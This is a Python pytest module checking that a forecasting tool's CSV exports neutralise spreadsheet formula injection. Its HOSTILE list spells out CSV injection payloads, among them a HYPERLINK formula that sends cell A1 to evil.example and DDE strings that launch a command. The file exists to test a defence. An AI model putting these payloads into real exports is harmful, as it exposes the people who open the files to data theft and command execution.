"""Issue 35, item 5: no cell of a CSV the studio writes (forecasts, metrics, a project's dataset.csv) is
a live spreadsheet formula, whatever the user named a column, a target or a file."""
from __future__ import annotations

import csv
import io
import math

import numpy as np
import pandas as pd
import pytest

from core import forecast
from core.escape import CSV_TRIGGERS, csv_cell, csv_uncell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "=1", "+", "-", "@", "''=x"]


def _cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _live(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (a plain number such as -1.5 is a number)"""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(CSV_TRIGGERS[:-1])


@pytest.mark.parametrize("name", HOSTILE + ["temp", "Temperatur (°C)", "a=b", "x-y", ""])
def test_escape_round_trips_and_defuses(name):
    cell = csv_cell(name)
    assert not _live(cell) or name == ""
    assert csv_uncell(cell) == name


def _frame(target: str, extra: str) -> pd.DataFrame:
    n = 4
    return pd.DataFrame({"timestamp": pd.date_range("2024-01-01", periods=n, freq="h"), "target": [target] * n,
                         "step": [1] * n, "prediction": [-1.5, 2.0, -3.0, 4.0], "actual": [1.0, -2.0, 3.0, 4.0],
                         extra: ["-1", "=1+2", "@x", "ok"]})


@pytest.mark.parametrize("name", HOSTILE)
def test_forecast_csv_has_no_live_formula(name):
    cells = _cells(forecast.forecasts_csv(_frame(name, name + "col")))
    assert not [c for c in cells if _live(c)], cells
    assert csv_cell(name) in cells and "-1.5" in cells  # the name kept readable, numbers left numbers


@pytest.mark.parametrize("name", HOSTILE)
def test_metrics_csv_has_no_live_formula(name):
    result = {"model": {"mae": 1.0, "rmse": 2.0}, "baselines": {name: {"mae": 2.0, "rmse": 3.0}},
              "best_baseline": name}
    per_step = pd.DataFrame({"target": [name], "step": [1], "mae": [-0.0]})
    cells = _cells(forecast.metrics_csv(result, per_step))
    assert not [c for c in cells if _live(c)], cells
    assert csv_cell(name) in cells


@pytest.mark.slow
def test_a_project_dataset_csv_is_defused_and_opens_with_the_names_it_had(tmp_path):
    from core import project
    from core.windows import SplitSpec, WindowSpec
    from tests.forecast_helpers import make_run, synthetic

    ds = synthetic(n=200, name="=cmd|' /C calc'!A0.csv", target='=HYPERLINK("http://x","click")')
    ds.frame.rename(columns={"hum": "@hum"}, inplace=True)
    spec = WindowSpec(targets=('=HYPERLINK("http://x","click")',), features=("@hum",), window=8, horizon=1)
    split = SplitSpec(train=0.6, val=0.2)
    windows, model_spec, config, run = make_run(tmp_path / "run", ds, spec, train=True, split=split)
    data = project.project_bytes(ds, spec, split, "minmax", model_spec, config, run, include_data=True)
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        cells = _cells(zf.read("dataset.csv"))
    assert not [c for c in cells if _live(c)], cells[:10]
    opened = project.open_project(data, workdir=tmp_path / "open")
    assert list(opened.dataset.frame.columns) == list(ds.frame.columns)
    assert opened.dataset.frame.equals(ds.frame)
    assert not math.isnan(float(np.nanmean(opened.dataset.frame.to_numpy())))
